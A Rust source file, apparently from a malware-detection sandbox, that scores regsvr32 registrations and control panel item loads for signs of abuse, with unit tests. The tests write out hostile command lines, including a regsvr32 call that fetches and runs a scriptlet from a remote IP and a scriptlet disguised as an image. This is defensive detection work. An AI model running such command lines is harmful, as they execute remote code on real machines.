//! What Regsvr32 and the control panel were told to load.

use sandtrap_sdk::windows::{command_line, path};

use crate::{
    origin::Origin,
    stage::{Stage, brief},
};

const MAX_ARGUMENTS: usize = 64;

/// What a registration with `regsvr32.exe` is worth, and the file that is registered.
///
/// With `scrobj.dll` the value of `/i:` is a scriptlet, which runs at once; without it the
/// library's own registration function runs.
pub fn registration(line: &str, directory: &str) -> (String, Vec<Stage>) {
    let mut scriptlet = None;
    let mut library = String::new();
    for argument in command_line::arguments_after_executable(line).take(MAX_ARGUMENTS) {
        let text = argument.text.into_owned();
        let option = text.strip_prefix(['/', '-']).unwrap_or_default();
        if option
            .get(..2)
            .is_some_and(|head| head.eq_ignore_ascii_case("i:"))
        {
            scriptlet = option
                .get(2..)
                .map(|value| value.trim_matches('"').to_owned());
        } else if option.is_empty() {
            library = text;
        }
    }
    let mut stages = Vec::new();
    let is_scriptlet_host = path::file_name(&library).eq_ignore_ascii_case("scrobj.dll");
    if let Some(value) = scriptlet {
        let origin = Origin::of(&value, directory);
        let shown = brief(&value);
        if matches!(origin, Origin::Web | Origin::Share) {
            let note = format!("registered a scriptlet from elsewhere: {shown}");
            stages.push(Stage::new("abuse.remote-scriptlet", 50, note));
            return (value, stages);
        }
        if is_scriptlet_host {
            let is_odd = !path::extension(&value).eq_ignore_ascii_case("wsc");
            let note = format!("ran the scriptlet {shown}");
            let score = if is_odd { 30 } else { 15 };
            stages.push(Stage::new("invocation.scriptlet", score, note));
            stages.extend(origin.stage("a scriptlet", &value, 25));
            return (value, stages);
        }
    }
    let origin = Origin::of(&library, directory);
    stages.extend(origin.stage("the registration of a library", &library, 25));
    let extension = path::extension(&library).to_ascii_lowercase();
    if !matches!(
        extension.as_str(),
        "dll" | "ocx" | "ax" | "cpl" | "exe" | ""
    ) {
        let note = format!(
            "registered a library that is not called one: {}",
            brief(&library)
        );
        stages.push(Stage::new("invocation.disguised-library", 20, note));
    }
    (library, stages)
}

/// What the loading of a control panel item is worth, and the item.
pub fn control_panel_item(line: &str, directory: &str) -> (String, Vec<Stage>) {
    let Some(item) = item(line) else {
        return (String::new(), Vec::new());
    };
    let origin = Origin::of(&item, directory);
    let is_bare = !item.contains(['\\', '/', ':']);
    if is_bare || !origin.is_open() {
        return (item, Vec::new());
    }
    let note = format!(
        "loaded a control panel item that Windows did not install: {}",
        brief(&item)
    );
    let mut stages = vec![Stage::new("invocation.control-panel-item", 15, note)];
    stages.extend(origin.stage("a control panel item", &item, 25));
    (item, stages)
}

/// The path that ends in `.cpl`: an argument of its own, or glued to the function's name.
fn item(line: &str) -> Option<String> {
    let arguments = command_line::arguments_after_executable(line).take(MAX_ARGUMENTS);
    let is_item = |text: &str| path::extension(text.trim_matches('"')).eq_ignore_ascii_case("cpl");
    arguments
        .filter_map(|argument| {
            let text = argument.text.into_owned();
            let last = text.split(',').find(|part| is_item(part))?;
            Some(last.trim_matches(['"', ' ']).to_owned())
        })
        .next()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(stages: &[Stage]) -> Vec<&'static str> {
        stages.iter().map(|stage| stage.name).collect()
    }

    #[test]
    fn a_scriptlet_from_elsewhere_is_abuse() {
        let line = "regsvr32.exe /s /n /u /i:http://198.51.100.7:8444/a.sct scrobj.dll";
        assert_eq!(names(&registration(line, "").1), ["abuse.remote-scriptlet"]);
        let line = "regsvr32 /s -I:\"C:\\Users\\a\\x.png\" C:\\Windows\\System32\\scrobj.dll";
        let (value, stages) = registration(line, "");
        assert_eq!(value, "C:\\Users\\a\\x.png");
        assert_eq!(
            names(&stages),
            ["invocation.scriptlet", "payload.user-writable"]
        );
    }

    #[test]
    fn an_ordinary_registration_is_worth_nothing_or_little() {
        let line = "regsvr32 /s \"C:\\Program Files\\Acme\\a.dll\"";
        assert_eq!(names(&registration(line, "").1), [""; 0]);
        let line = "regsvr32 /s C:\\Users\\a\\AppData\\Local\\Acme\\a.dll";
        assert_eq!(names(&registration(line, "").1), ["payload.user-writable"]);
    }

    #[test]
    fn items_of_the_control_panel_count_where_users_write() {
        let both = ["invocation.control-panel-item", "payload.user-writable"];
        for line in [
            "\"C:\\windows\\system32\\control.exe\" C:\\ProgramData\\calc.cpl",
            "rundll32.exe Shell32.dll,Control_RunDLL C:\\ProgramData\\calc.cpl",
            "rundll32.exe \"C:\\windows\\SysWOW64\\shell32.dll\",#44 C:\\ProgramData\\calc.cpl",
            "rundll32.exe shell32.dll,Control_RunDLL \"C:\\Users\\a b\\x.cpl\",@0",
        ] {
            assert_eq!(names(&control_panel_item(line, "").1), both, "{line}");
        }
        for line in [
            "control.exe timedate.cpl",
            "rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\inetcpl.cpl",
        ] {
            assert_eq!(names(&control_panel_item(line, "").1), [""; 0], "{line}");
        }
    }
}
